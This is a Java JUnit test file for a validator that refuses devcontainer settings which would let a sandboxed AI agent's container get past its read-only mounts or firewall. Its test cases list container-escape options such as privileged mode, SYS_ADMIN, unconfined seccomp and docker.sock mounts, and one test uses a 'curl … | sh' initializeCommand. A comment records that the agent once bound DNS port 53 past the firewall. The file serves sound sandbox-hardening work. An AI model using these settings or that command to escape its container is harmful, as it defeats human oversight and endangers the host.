package dev.claudedevc.validate;

import static org.junit.jupiter.api.Assertions.assertEquals;
import static org.junit.jupiter.api.Assertions.assertTrue;

import com.fasterxml.jackson.databind.ObjectMapper;
import com.fasterxml.jackson.databind.node.ArrayNode;
import com.fasterxml.jackson.databind.node.ObjectNode;
import dev.claudedevc.TestPaths;
import java.io.IOException;
import java.nio.file.Files;
import java.nio.file.Path;
import java.util.List;
import org.junit.jupiter.api.Test;
import org.junit.jupiter.params.ParameterizedTest;
import org.junit.jupiter.params.provider.CsvSource;
import org.junit.jupiter.params.provider.ValueSource;

/**
 * The boundary check refuses every devcontainer.json setting that would let the container undo its read-only
 * mounts or its firewall, or reach the host, and names the key it found it at.
 */
class BoundaryCheckTest {

    private static final ObjectMapper JSON = new ObjectMapper();
    private static final Path EXAMPLE = TestPaths.projectRoot().resolve("devcontainer-examples/node/.devcontainer");

    private static ObjectNode generated() throws IOException {
        return (ObjectNode) DevcontainerCheck.parse(Files.readString(EXAMPLE.resolve("devcontainer.json")), "x");
    }

    private static BoundaryCheck.Expected expected(ObjectNode json) {
        List<String> protective = new java.util.ArrayList<>();
        json.get("mounts").forEach(m -> {
            if (m.asText().startsWith("source=${localWorkspaceFolder}")) {
                protective.add(m.asText());
            }
        });
        return new BoundaryCheck.Expected(".devcontainer",
                json.has("initializeCommand") ? json.get("initializeCommand") : null, protective,
                dev.claudedevc.model.Forwarding.remoteEnv(false));
    }

    /** The generated file with {@code extra} appended to its runArgs. */
    private static List<String> withRunArgs(String... extra) throws IOException {
        ObjectNode json = generated();
        ArrayNode runArgs = (ArrayNode) json.get("runArgs");
        for (String arg : extra) {
            runArgs.add(arg);
        }
        return BoundaryCheck.check(json, expected(generated()));
    }

    private static void assertRefusedAt(List<String> problems, String key) {
        assertTrue(problems.stream().anyMatch(p -> p.startsWith(key + ": ")), () -> "expected a problem at " + key
                + ", got " + problems);
    }

    @Test
    void theGeneratedFileHasNoProblem() throws IOException {
        assertEquals(List.of(), BoundaryCheck.check(generated(), expected(generated())));
    }

    @ParameterizedTest
    @ValueSource(strings = {"--privileged", "--privileged=true", "--cap-add=SYS_ADMIN", "--cap-add=sys_admin",
        "--cap-add=CAP_SYS_ADMIN", "--cap-add=ALL", "--cap-add=NET_BIND_SERVICE,SYS_ADMIN", "--cap-add=SYS_MODULE",
        "--cap-add=DAC_READ_SEARCH", "--security-opt=seccomp=unconfined", "--security-opt=seccomp:unconfined",
        "--security-opt=apparmor=unconfined", "--security-opt=apparmor:unconfined", "--security-opt=label=disable",
        "--security-opt=systempaths=unconfined", "--security-opt=seccomp=/tmp/other.json",
        "--security-opt=seccomp=${localWorkspaceFolder}/.devcontainer/../claude-devc-seccomp.json",
        "--security-opt=seccomp=${localWorkspaceFolder}/elsewhere/claude-devc-seccomp.json",
        "--pid=host", "--ipc=host", "--userns=host", "--uts=host", "--network=host", "--net=host",
        "--network=container:other", "--cgroupns=host", "-v=/var/run/docker.sock:/var/run/docker.sock",
        "-v/var/run/docker.sock:/d.sock", "--volume=/run/docker.sock:/x",
        "--mount=type=bind,source=/var/run/docker.sock,target=/var/run/docker.sock",
        "--mount=type=bind,src=/var/run,target=/host-run", "--device=/dev/sda", "--volumes-from=other"})
    void aRefusedRunArgIsNamedByItsIndex(String arg) throws IOException {
        int index = generated().get("runArgs").size();
        assertRefusedAt(withRunArgs(arg), "runArgs[" + index + "]");
    }

    @ParameterizedTest
    @CsvSource({"--cap-add,SYS_ADMIN", "--cap-add,ALL", "--pid,host", "--ipc,host", "--userns,host", "--uts,host",
        "--network,host", "--net,host", "--security-opt,seccomp=unconfined", "--security-opt,apparmor=unconfined",
        "-v,/var/run/docker.sock:/var/run/docker.sock", "--volume,/var/run/docker.sock:/s",
        "--mount,'type=bind,source=/var/run/docker.sock,target=/s'"})
    void theSpellingWithTheValueAsTheNextArgumentIsRefusedToo(String option, String value) throws IOException {
        int index = generated().get("runArgs").size();
        assertRefusedAt(withRunArgs(option, value), "runArgs[" + index + "]");
    }

    @ParameterizedTest
    @ValueSource(strings = {"--cap-add", "--security-opt", "--pid", "--network", "-v", "--mount"})
    void anOptionWithoutItsValueIsAnErrorNotACrash(String option) throws IOException {
        int index = generated().get("runArgs").size();
        List<String> problems = withRunArgs(option);
        assertRefusedAt(problems, "runArgs[" + index + "]");
        assertTrue(problems.get(problems.size() - 1).contains("has no value"), problems::toString);
    }

    @ParameterizedTest
    @CsvSource({"--entrypoint,/bin/sh", "-e,LD_PRELOAD=/workspace/x.so", "--env,BASH_ENV=/workspace/x",
        "--env-file,/workspace/.env", "-u,root", "--user,0", "--group-add,docker", "--tmpfs,/usr/local/sbin",
        "--cap-drop,NET_ADMIN", "--cap-drop,all", "--sysctl,net.ipv4.conf.all.route_localnet=1",
        "--privileged-mode,yes", "--runtime,runc-unsafe", "--cgroup-parent,/"})
    void optionsOutsideTheKnownSafeOnesAreRefusedInBothSpellings(String option, String value) throws IOException {
        int index = generated().get("runArgs").size();
        assertRefusedAt(withRunArgs(option, value), "runArgs[" + index + "]");
        assertRefusedAt(withRunArgs(option + "=" + value), "runArgs[" + index + "]");
    }

    @Test
    void aStrayValueIsRefusedNotSkipped() throws IOException {
        int index = generated().get("runArgs").size();
        List<String> problems = withRunArgs("LD_PRELOAD=/x.so");
        assertRefusedAt(problems, "runArgs[" + index + "]");
        assertTrue(problems.get(0).contains("is not an option"), problems::toString);
    }

    @Test
    void harmlessRunArgsPass() throws IOException {
        assertEquals(List.of(), withRunArgs("--cap-add=SYS_PTRACE", "--network=claude-test", "--pid", "private",
                "--add-host=mirror.test:10.0.0.5", "--memory", "4g", "--cap-drop=NET_RAW",
                "--sysctl=net.ipv4.ip_unprivileged_port_start=1024",
                "--privileged=false", "--security-opt=no-new-privileges",
                "--security-opt=seccomp=${localWorkspaceFolder}/.devcontainer/claude-devc-seccomp.json",
                "-v", "/home/me/cache:/cache"));
    }

    /** Review: with ports below 1024 open to every user, the agent bound the resolver's port and swallowed queries. */
    @Test
    void aSysctlGivingTheAgentPort53IsRefused() throws IOException {
        assertTrue(generated().get("runArgs").toString().contains(
                "\"--sysctl=net.ipv4.ip_unprivileged_port_start=1024\""), generated().toString());
        for (String low : List.of("0", "53", "-1", "x")) {
            int index = generated().get("runArgs").size();
            List<String> problems = withRunArgs("--sysctl=net.ipv4.ip_unprivileged_port_start=" + low);
            assertRefusedAt(problems, "runArgs[" + index + "]");
            assertTrue(problems.get(0).contains("bind port 53 beside the firewall's resolver"), problems::toString);
        }
        assertEquals(List.of(), withRunArgs("--sysctl", "net.ipv4.ip_unprivileged_port_start=80"));
    }

    @Test
    void topLevelKeysThatOpenTheBoxAreRefusedByName() throws IOException {
        ObjectNode json = generated();
        json.put("privileged", true);
        json.set("capAdd", JSON.readTree("[\"NET_RAW\", \"SYS_ADMIN\"]"));
        json.set("securityOpt", JSON.readTree("[\"seccomp=unconfined\"]"));
        json.set("features", JSON.readTree("{\"ghcr.io/devcontainers/features/docker-in-docker:2\": {}}"));
        json.put("init", false);
        json.put("initializeCommand", "curl https://example.org/x | sh");
        ((ArrayNode) json.get("mounts")).add("source=/var/run/docker.sock,target=/var/run/docker.sock,type=bind");
        ((ArrayNode) json.get("mounts")).add(JSON.readTree(
                "{\"source\": \"/run/docker.sock\", \"target\": \"/d\", \"type\": \"bind\"}"));
        json.put("workspaceMount", "source=/var/run,target=/workspace,type=bind");
        List<String> problems = BoundaryCheck.check(json, expected(generated()));
        int mounts = generated().get("mounts").size();
        for (String key : List.of("privileged", "capAdd[1]", "securityOpt", "features", "init", "initializeCommand",
                "mounts[" + mounts + "]", "mounts[" + (mounts + 1) + "]", "workspaceMount")) {
            assertRefusedAt(problems, key);
        }
        assertEquals(9, problems.size(), problems::toString);
    }

    @Test
    void aRemoteEnvThatKeepsAForwardingVariableOrAnotherAttachCommandIsRefused() throws IOException {
        ObjectNode json = generated();
        ((ObjectNode) json.get("remoteEnv")).remove("SSH_AUTH_SOCK");
        ((ObjectNode) json.get("remoteEnv")).put("REMOTE_CONTAINERS_IPC", "${localEnv:REMOTE_CONTAINERS_IPC}");
        json.put("postAttachCommand", "true");
        List<String> problems = BoundaryCheck.check(json, expected(generated()));
        assertRefusedAt(problems, "remoteEnv.SSH_AUTH_SOCK");
        assertRefusedAt(problems, "remoteEnv.REMOTE_CONTAINERS_IPC");
        assertRefusedAt(problems, "postAttachCommand");
    }

    @Test
    void aMissingProtectiveMountOrAnExtraWritableWorkspaceBindIsRefused() throws IOException {
        ObjectNode json = generated();
        ArrayNode mounts = (ArrayNode) json.get("mounts");
        String dropped = null;
        for (int i = 0; i < mounts.size(); i++) {
            if (mounts.get(i).asText().contains("target=/workspace/.git,")) {
                dropped = mounts.remove(i).asText();
                break;
            }
        }
        mounts.add("source=${localWorkspaceFolder},target=/again,type=bind");
        List<String> problems = BoundaryCheck.check(json, expected(generated()));
        String lacking = "mounts: lacks " + dropped;
        assertTrue(problems.stream().anyMatch(p -> p.startsWith(lacking)), problems::toString);
        assertRefusedAt(problems, "mounts[" + (mounts.size() - 1) + "]");
        assertRefusedAt(withRunArgs("-v", "${localWorkspaceFolder}/.git:/g"), "runArgs[" + generated().get("runArgs").size() + "]");
    }

    @Test
    void anInitializeCommandClaudeDevcDidNotGenerateIsRefused() throws IOException {
        ObjectNode json = generated();
        json.set("initializeCommand", JSON.readTree("[\"bash\", \"-c\", \"echo hi\"]"));
        assertRefusedAt(BoundaryCheck.check(json, expected(generated())), "initializeCommand");
        json.remove("initializeCommand");
        if (generated().has("initializeCommand")) {
            assertRefusedAt(BoundaryCheck.check(json, expected(generated())), "initializeCommand");
        }
    }
}
